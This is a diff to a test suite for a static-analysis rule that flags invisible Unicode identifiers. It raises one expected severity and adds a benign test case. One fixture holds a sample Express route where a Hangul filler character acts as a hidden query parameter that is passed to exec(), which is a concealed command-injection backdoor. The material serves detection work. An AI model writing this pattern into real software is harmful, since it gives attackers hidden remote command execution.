@@ -83,7 +83,13 @@ ruleTest(rule, {
       name: 'Hangul filler as an invisible identifier',
       file: 'server/routes/health.js',
       code: 'app.get("/network_health", async (req, res) => {\n  const { timeout,\u3164 } = req.query;\n  const checkCommands = ["ping -c 1 google.com", \u3164];\n  await Promise.all(checkCommands.map((cmd) => exec(cmd, { timeout })));\n});\n',
-      findings: [{ line: 2, column: 19, severity: 'high', confidence: 'high', message: /Hangul filler/ }],
+      findings: [{ line: 2, column: 19, severity: 'critical', confidence: 'high', message: /Hangul filler.*also runs commands/ }],
+    },
+    {
+      name: 'Hangul filler identifier in a file that runs nothing: high',
+      file: 'src/util.js',
+      code: 'const { a,\u3164 } = opts;\nmodule.exports = [a, \u3164];\n',
+      findings: [{ line: 1, severity: 'high', confidence: 'high', message: /Hangul filler/ }],
     },
     {
       name: 'Trojan Source: bidi overrides in a comment',
